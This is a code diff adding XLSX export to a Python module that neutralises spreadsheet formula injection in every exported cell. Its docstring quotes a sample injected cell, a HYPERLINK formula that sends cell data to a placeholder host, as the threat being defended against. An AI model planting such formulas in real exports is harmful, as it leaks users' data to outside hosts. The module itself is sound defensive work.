@@ -1,4 +1,4 @@
-"""Files that a spreadsheet program may open (CSV now, XLSX later): one rule for every cell.
+"""Files that a spreadsheet program may open (CSV and XLSX): one rule for every cell.
 
 A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
 by Excel, LibreOffice and Google Sheets: a roster name ``=HYPERLINK("http://x/?"&A1,"x")`` in the
@@ -35,3 +35,42 @@ def csv_text(header: Iterable, rows: Iterable[Iterable], lineterminator: str = "
     for row in rows:
         writer.writerow([safe_cell(value) for value in row])
     return out.getvalue()
+
+
+def xlsx_bytes(header: Iterable, rows: Iterable[Iterable], title: str = "data") -> bytes:
+    """An XLSX workbook of one sheet with a header row, every cell through safe_cell; texts are
+    stored as texts (never as formulas, whatever they start with)."""
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet(title[:31])
+
+    def cells(values: Iterable) -> list:
+        out = []
+        for value in values:
+            cell = WriteOnlyCell(sheet, value=safe_cell(value))
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+            out.append(cell)
+        return out
+
+    sheet.append(cells(header))
+    for row in rows:
+        sheet.append(cells(row))
+    data = io.BytesIO()
+    book.save(data)
+    return data.getvalue()
+
+
+FORMATS = ("csv", "xlsx")
+MIMETYPES = {"csv": "text/csv; charset=utf-8",
+             "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
+
+
+def table_file(header: list, rows: list[list], fmt: str, title: str = "data") -> bytes:
+    """A table as a file in ``fmt`` (one of FORMATS): a CSV with a BOM and CRLF line ends (as
+    spreadsheet programs read it right), or an XLSX sheet called ``title``."""
+    if fmt == "xlsx":
+        return xlsx_bytes(header, rows, title)
+    return csv_text(header, rows, lineterminator="\r\n").encode("utf-8-sig")
